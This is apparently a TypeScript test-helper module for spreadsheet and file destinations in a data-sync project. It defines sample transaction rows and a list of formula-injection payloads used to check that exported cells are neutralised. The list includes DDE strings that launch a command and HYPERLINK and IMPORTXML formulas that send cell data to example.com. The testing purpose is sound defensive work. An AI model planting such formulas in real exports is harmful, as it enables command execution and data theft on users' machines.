/** What the tests of `DestinationSuite` write, and how they tell what has become of it. */
import { expect } from "@effect/vitest"
import type {
  Column,
  Destination,
  DestinationError,
  DestinationSession,
  Outgoing,
  WriteModel
} from "@millrace/core/destination"
import type { DestinationConfig, Feed } from "@millrace/core/feed"
import type { Fields } from "@millrace/core/record"
import * as Effect from "effect/Effect"
import type * as Scope from "effect/Scope"
import * as Stream from "effect/Stream"

/** A row as a person sees it: column name -> text; empty cells are "". */
export type PrintedRow = Readonly<Record<string, string>>

export interface DestinationUnderTest {
  /** The driver as the kernel uses it: `destinationOf(driver)`. */
  readonly driver: Destination
  readonly config: DestinationConfig
  readonly feed: Feed
  /** The rows at the destination, with the columns of feeds alone; none before the first delivery. */
  readonly read: Effect.Effect<ReadonlyArray<PrintedRow>>
}

/** A destination that keeps rows, so that people can work on them and one of them can be refused. */
export interface RowDestinationUnderTest extends DestinationUnderTest {
  /** What people do there. */
  readonly people: {
    /** Adds a column and writes a cell into it. The effect it answers reads that column's cells by key. */
    readonly note: (key: string, text: string) => Effect.Effect<Effect.Effect<ReadonlyMap<string, string>>>
    readonly deleteRow: (key: string) => Effect.Effect<void>
    /** Writes another text into a cell of a column of text. Drivers that tell edits need it. */
    readonly edit?: (key: string, column: string, text: string) => Effect.Effect<void>
  }
  /** Values, by column name, for which a record is refused; absent where the destination takes every row. */
  readonly refused?: Fields
}

/** A destination whose file people can reach. */
export interface FileDestinationUnderTest extends DestinationUnderTest {
  /** Somebody changes a letter of the file. */
  readonly spoil: Effect.Effect<void>
  /** Somebody takes the file away. */
  readonly lose: Effect.Effect<void>
}

interface Suite<Write extends WriteModel, Under extends DestinationUnderTest> {
  readonly write: Write
  /** Whether the destination keeps text as text, or a program may take it for a formula. */
  readonly cells: "typed" | "interpreted"
  /** A fresh and empty destination for each test. */
  readonly make: Effect.Effect<Under, never, Scope.Scope>
}

export type WholeFileSuiteOptions = Suite<"wholeFile", FileDestinationUnderTest>
export type RowSuiteOptions = Suite<Exclude<WriteModel, "wholeFile">, RowDestinationUnderTest>
export type DestinationSuiteOptions = WholeFileSuiteOptions | RowSuiteOptions

export const columns: ReadonlyArray<Column> = [
  { name: "ID", label: "ID", type: "str" },
  { name: "Date", label: "Date", type: "date" },
  { name: "Amount", label: "Amount", type: "num" },
  { name: "Description", label: "Description", type: "str" },
  { name: "Merchant", label: "Merchant Name", type: "str" },
  { name: "Pending", label: "Pending", type: "bool" },
  { name: "At", label: "At", type: "ts" }
]

type Change = Partial<{
  readonly amount: string
  readonly description: string
  readonly merchant: string | null
  readonly pending: boolean
}>

/** A record under its columns. */
export const row = (id: string, change: Change = {}): Fields => ({
  ID: id,
  Date: "2026-03-14",
  Amount: change.amount ?? "-12.5",
  Description: change.description ?? "COOP-4412 ZURICH",
  Merchant: change.merchant === undefined ? "Coop" : change.merchant,
  Pending: change.pending ?? false,
  At: "2026-03-14T08:30:00.000Z"
})

/** Ids whose text order is the order of numbers. */
export const numberedKey = (n: number): string => String(n).padStart(6, "0")

export const outgoing = (op: Outgoing["op"], values: Fields): Outgoing => ({
  key: `transactions:${String(values["ID"])}`,
  op,
  values: op === "remove" ? {} : values,
  idempotencyKey: `${op} ${JSON.stringify(values)}`
})

/** The same write again, as one of its own: destinations that remember keys have not seen this one. */
export const asNew = (one: Outgoing): Outgoing => ({ ...one, idempotencyKey: `${one.idempotencyKey} new` })

export const printed = (values: Fields): PrintedRow =>
  Object.fromEntries(columns.map(({ name }) => [name, String(values[name] ?? "")]))

export const sortedById = (rows: ReadonlyArray<PrintedRow>): ReadonlyArray<PrintedRow> =>
  rows.toSorted((a, b) => (a["ID"]! < b["ID"]! ? -1 : 1))

/** Brings the destination from what it was to `rows`, which are what it is after `changes`. */
export const deliver = (
  { driver }: DestinationUnderTest,
  session: DestinationSession,
  rows: ReadonlyArray<Fields>,
  changes: ReadonlyArray<Outgoing>
): Effect.Effect<void, DestinationError> =>
  driver.capabilities.write === "wholeFile"
    ? Effect.asVoid(session.replace(Stream.fromIterable(rows.map((values) => ({ key: String(values["ID"]), values })))))
    : Effect.map(session.write(changes), (receipts) => {
        expect(receipts.map(({ outcome }) => outcome)).toEqual(changes.map(() => "done"))
      })

/** Text without what may be left out: of the control characters only tabs and line breaks need to be kept. */
export const shown = (text: string): string =>
  [...text].filter((char) => /[\t\r\n]/.test(char) || !/[\p{Cc}\ufeff]/u.test(char)).join("")

/** Forms in which a text may come back. */
export const shownAs = (cells: DestinationSuiteOptions["cells"], text: string): ReadonlyArray<string> =>
  cells === "interpreted" ? [shown(text), `'${shown(text)}`] : [shown(text)]

const payloads = [
  "=1+1",
  '=cmd|"/C calc"!A0',
  '=HYPERLINK("http://example.com?x="&A1,"click")',
  '=IMPORTXML(CONCAT("http://example.com/?v=",A2:A9),"//a")',
  "+1+1",
  "+41 79 123 45 67",
  "-1+1",
  "-12.5",
  "- groceries",
  "@SUM(1+1)*cmd|'/C calc'!A0",
  "@home",
  "=",
  "-",
  "==",
  '="',
  "='",
  '=";=1+1;"',
  "=1,=2",
  "=1\n=2",
  "=1\r\n=2",
  "＝1+1",
  'DDE ("cmd";"/C calc";"__DdeLink")'
]

/** Texts that a spreadsheet would take for formulas, and some that look like it. */
export const formulas: ReadonlyArray<string> = payloads.flatMap((text) => [
  text,
  `\t${text}`,
  `\r${text}`,
  `\n${text}`,
  `\0${text}`,
  `\ufeff${text}`,
  `\x01\x02${text}`,
  ` ${text}`,
  `'${text}`,
  `"${text}"`,
  `",${text}`,
  `\r\n${text},`,
  `x${text}`,
  `;${text}`,
  `\0\t\0${text}`,
  `\u200b${text}`,
  `${text}\0`,
  `${text}${text}`,
  `"\r\n${text}`,
  `,${text}`,
  `\x7f${text}`,
  `\x85${text}`,
  `${text}"`
])
